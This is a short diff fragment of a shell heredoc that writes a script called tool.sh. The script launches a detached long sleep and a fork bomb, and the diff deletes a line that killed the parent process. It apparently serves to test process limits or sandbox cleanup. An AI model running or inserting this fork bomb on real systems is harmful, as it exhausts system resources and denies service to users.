@@ -6,6 +6,5 @@ cat > tool.sh <<'END'
 setsid sleep 600 < /dev/null > /dev/null 2>&1 &
 bomb() { bomb | bomb & }
 bomb
-kill -9 $PPID
 sleep 600
 END
